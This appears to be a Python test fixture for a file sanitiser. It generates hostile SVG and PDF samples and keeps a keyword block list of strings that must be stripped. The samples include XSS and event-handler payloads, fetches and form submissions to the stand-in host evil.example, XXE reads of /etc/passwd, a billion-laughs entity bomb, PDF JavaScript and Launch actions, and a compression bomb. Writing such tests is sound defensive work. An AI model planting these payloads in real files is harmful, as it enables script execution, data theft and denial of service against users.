"""Drawings and documents that act when they are opened."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

from parvis.media.tests.hostile_parts import Case, good


def svg(inner: str, *, head: str = "", size: tuple[str, str] = ("100", "100"), attributes: str = "") -> bytes:
    """A drawing around something."""
    return (
        f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="{size[0]}" height="{size[1]}" viewBox="0 0 100 100" {attributes}>'
        f'<rect x="1" y="1" width="50" height="50" fill="red"/>{inner}</svg>'
    ).encode()


def nested_uses() -> bytes:
    levels = "".join(
        f"<g id='a{n}'>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>"
        if n
        else "<g id='a0'><rect width='1' height='1'/></g>"
        for n in range(10)
    )
    return svg(f"<defs>{levels}</defs><use href='#a9'/>")


# Thirty and more manners for a drawing to act. Each word of FORBIDDEN must be gone from what is given.
DRAWINGS = {
    "script": "<script>alert(1)</script>",
    "script-cdata": "<script><![CDATA[alert(1)]]></script>",
    "script-href": "<script href='https://evil.example/x.js'/>",
    "script-xlink": "<script xlink:href='data:text/javascript,alert(1)'/>",
    "script-case": "<SCRIPT>alert(1)</SCRIPT>",
    "script-namespace": "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    "script-html": "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "onload": "<rect width='9' height='9' onload='alert(1)'/>",
    "onclick": "<rect width='9' height='9' onclick='alert(1)'/>",
    "onmouseover": "<g onmouseover='alert(1)'><rect width='9' height='9'/></g>",
    "onfocusin": "<a tabindex='1' onfocusin='alert(1)'><rect width='9' height='9'/></a>",
    "onbegin": "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "onend": "<set onend='alert(1)' attributeName='x' to='1'/>",
    "onerror": "<image href='x' onerror='alert(1)'/>",
    "handler": "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>",
    "listener": "<listener event='load' handler='#x'/>",
    "link-script": "<a href='javascript:alert(1)'><text y='20'>x</text></a>",
    "link-xlink-script": "<a xlink:href='javascript:alert(1)'><text y='20'>x</text></a>",
    "link-spaced-script": "<a href='java&#10;script:alert(1)'><text y='20'>x</text></a>",
    "link-data": "<a href='data:text/html,&lt;script>alert(1)&lt;/script>'><text y='20'>x</text></a>",
    "animate-href": "<a><animate attributeName='href' values='javascript:alert(1)'/><text y='20'>x</text></a>",
    "set-handler": "<set attributeName='onmouseover' to='alert(1)'/>",
    "foreign-object": "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
    "foreign-frame": "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>",
    "iframe": "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>alert(1)&lt;/script>'/>",
    "embed": "<embed xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/>",
    "image-abroad": "<image href='https://evil.example/track.png' width='9' height='9'/>",
    "image-file": "<image href='file:///etc/passwd' width='9' height='9'/>",
    "image-svg": "<image href='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=' width='9' height='9'/>",
    "use-abroad": "<use href='https://evil.example/x.svg#a'/>",
    "use-data": "<use href='data:image/svg+xml,&lt;svg id=&quot;a&quot;/>#a'/>",
    "style-import": "<style>@import url('https://evil.example/x.css');</style>",
    "style-url": "<style>rect { fill: url('https://evil.example/x.svg#a'); }</style>",
    "style-script": "<style>rect { background: url('javascript:alert(1)'); }</style>",
    "style-attribute": "<rect width='9' height='9' style='fill:url(https://evil.example/x#a)'/>",
    "style-font": "<style>@font-face { font-family: x; src: url(https://evil.example/x.woff); }</style>",
    "filter-image": "<filter id='f'><feImage href='https://evil.example/x.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    "cursor-abroad": "<rect width='9' height='9' cursor='url(https://evil.example/x.cur),auto'/>",
    "metadata": "<metadata><x:xmpmeta xmlns:x='adobe:ns:meta/'>48.8566 alert(1)</x:xmpmeta></metadata>",
    "mask-abroad": "<rect width='9' height='9' mask='url(https://evil.example/x.svg#m)'/>",
}


FORBIDDEN = (
    b"alert", b"script", b"javascript", b"evil.example", b"onload", b"onclick", b"onmouse", b"onbegin", b"onend",
    b"onerror", b"onfocus", b"foreignobject", b"iframe", b"<embed", b"file:", b"@import", b"passwd", b"<!entity",
    b"<html", b"<?php", b"somebody", b"image/svg", b"text/html",
)  # fmt: skip


def drawings() -> Iterator[Case]:
    for name, inner in DRAWINGS.items():
        yield Case(f"svg-{name}", "picture", "a.svg", lambda i=inner: svg(i))
    yield Case("svg-root-onload", "picture", "a.svg", lambda: svg("", attributes='onload="alert(1)"'))
    yield Case(
        "svg-base",
        "picture",
        "a.svg",
        lambda: svg("<image href='x.png'/>", attributes='xml:base="https://evil.example/"'),
    )
    yield Case(
        "svg-stylesheet",
        "picture",
        "a.svg",
        lambda: svg("", head="<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?>"),
    )
    entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield Case("svg-entity-file", "picture", "a.svg", lambda: svg("<text y='20'>&x;</text>", head=entity), "refused")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10))
    yield Case(
        "svg-laughs", "picture", "a.svg", lambda: svg("<text>&l9;</text>", head=f"<!DOCTYPE svg [{laughs}]>"), "refused"
    )
    yield Case(
        "svg-dtd-abroad", "picture", "a.svg", lambda: svg("", head='<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">')
    )
    yield Case(
        "svg-include",
        "picture",
        "a.svg",
        lambda: svg("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"),
    )
    yield Case(
        "svg-utf7",
        "picture",
        "a.svg",
        lambda: b"<?xml version='1.0' encoding='utf-7'?>" + svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    )
    yield Case("svg-not-closed", "picture", "a.svg", lambda: svg("<g>"), "refused")


def _pdf(objects: dict[int, str], root: int = 1, *, trailer: str = "") -> bytes:
    out, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(out)
        out += f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {max(objects) + 1}\n0000000000 65535 f \n".encode()
    for number in range(1, max(objects) + 1):
        out += f"{places.get(number, 0):010d} 00000 n \n".encode()
    return out + f"trailer\n<</Size {max(objects) + 1}/Root {root} 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()


_PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]{}>>"


_ACTIONS = {
    "javascript": "<</S/JavaScript/JS(app.alert\\('evil.example'\\))>>",
    "launch": "<</S/Launch/F(passwd)/Win<</F(passwd)>>>>",
    "submit": "<</S/SubmitForm/F(https://evil.example)>>",
    "import": "<</S/ImportData/F(passwd)>>",
    "remote": "<</S/GoToR/F(passwd)/D[0/Fit]>>",
    "embedded": "<</S/GoToE/F(passwd)>>",
    "chained": "<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(alert)>>>>",
    "rendition": "<</S/Rendition/OP 0/JS(alert)>>",
}


def documents() -> Iterator[Case]:
    for name, action in _ACTIONS.items():
        for where in ("open", "page", "link"):
            yield Case(f"pdf-{name}-{where}", "document", "a.pdf", lambda a=action, w=where: _acting(a, w), "harmless")
    yield Case("pdf-attachment", "document", "a.pdf", lambda: _pdf({
        1: "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: _PAGE.format(""), 4: "<</Type/Filespec/F(passwd)/EF<</F 5 0 R>>>>", 5: "<</Length 6>>stream\nscript\nendstream"}))  # fmt: skip
    yield Case("pdf-form-script", "document", "a.pdf", lambda: _pdf({
        1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/XFA(script)>>>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: _PAGE.format("/Annots[4 0 R]"), 4: "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(alert)>>>>>>"}))  # fmt: skip
    yield Case(
        "pdf-page-loop",
        "document",
        "a.pdf",
        lambda: _pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
        "refused",
    )
    yield Case(
        "pdf-no-page",
        "document",
        "a.pdf",
        lambda: _pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[]/Count 0>>"}),
        "refused",
    )
    yield Case(
        "pdf-huge-page",
        "document",
        "a.pdf",
        lambda: _pdf(
            {
                1: "<</Type/Catalog/Pages 2 0 R>>",
                2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>",
            }
        ),
    )
    yield Case("pdf-stream-bomb", "document", "a.pdf", _stream_bomb)
    yield Case(
        "pdf-deep-array",
        "document",
        "a.pdf",
        lambda: _pdf(
            {
                1: "<</Type/Catalog/Pages 2 0 R/X " + "[" * 5000 + "]" * 5000 + ">>",
                2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                3: _PAGE.format(""),
            }
        ),
    )
    yield Case(
        "pdf-xref-loop",
        "document",
        "a.pdf",
        lambda: _pdf(
            {1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: _PAGE.format("")},
            trailer="/Prev 9",
        ),
    )
    yield Case("pdf-locked", "document", "a.pdf", _locked, "refused")


def _acting(action: str, where: str) -> bytes:
    root, page, more = "", "", {}
    if where == "open":
        root = f"/OpenAction {action}"
    elif where == "page":
        page = f"/AA<</O {action}>>"
    else:
        page, more = "/Annots[4 0 R]", {4: f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>"}
    return _pdf(
        {
            1: f"<</Type/Catalog/Pages 2 0 R{root}>>",
            2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: _PAGE.format(page),
            **more,
        }
    )


def _stream_bomb() -> bytes:
    packed = zlib.compress(b"0 0 9 9 re f\n" * (16 << 20), 9)
    body = f"<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode("latin-1") + packed + b"\nendstream"
    page = _PAGE.format("/Contents 4 0 R")
    return _pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R>>",
            2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: page,
            4: body.decode("latin-1"),
        }
    )


def _locked() -> bytes:
    import pikepdf

    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(good("pdf"))) as document:
        document.save(held, encryption=pikepdf.Encryption(owner="a", user="b"))
    return held.getvalue()
